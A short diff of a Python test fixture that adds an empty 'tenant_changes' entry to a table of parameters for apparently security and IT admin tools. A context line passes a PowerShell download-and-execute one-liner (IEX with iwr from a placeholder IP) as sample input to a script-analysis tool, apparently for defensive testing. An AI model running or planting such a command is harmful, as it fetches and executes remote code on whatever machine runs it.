@@ -45,6 +45,7 @@ def _params(key: dict[str, Any]) -> dict[str, dict[str, Any]]:
         "script_analysis": {"script": "IEX (iwr http://203.0.113.9/a.ps1)", "name": "a.ps1"},
         "signin_summary": {},
         "signin_troubleshoot": {"user": personas["lockout_user"]["id"]},
+        "tenant_changes": {},
         "user_details": {"user": alice},
         "user_roles": {"user": personas["it_admin"]["id"]},
         "who_changed": {},
